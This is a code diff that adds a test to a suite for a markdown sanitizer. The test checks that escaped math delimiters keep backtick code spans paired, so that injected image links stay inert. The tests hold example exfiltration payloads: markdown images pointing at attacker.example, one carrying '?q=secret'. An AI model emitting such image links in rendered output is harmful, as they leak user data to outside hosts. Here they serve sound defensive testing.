@@ -75,6 +75,13 @@ def test_hostile_markdown_in_answer_blocks_and_labels_stays_inert(text: str) -> 
     assert not LEAKS & set(tokens(plain_markdown(text))), plain_markdown(text)
 
 
+def test_math_cannot_shift_which_backticks_pair() -> None:
+    """Streamlit renders $…$ as math, which opens before a code span; escaped, the spans pair as kept here."""
+    safe = safe_markdown("$a `b$ ![](https://attacker.example/math) `")
+    assert safe == "\\$a `b$ ![](https://attacker.example/math) `"
+    assert safe_markdown("costs $5 or $$10$$") == "costs \\$5 or \\$\\$10\\$\\$"
+
+
 def test_an_image_becomes_a_note_naming_what_was_not_loaded() -> None:
     safe = safe_markdown("Sure ![chart](https://attacker.example/?q=secret) [1]")
     assert safe == "Sure \\[image: chart from `https://attacker.example/?q=secret` — not loaded\\] \\[1\\]"
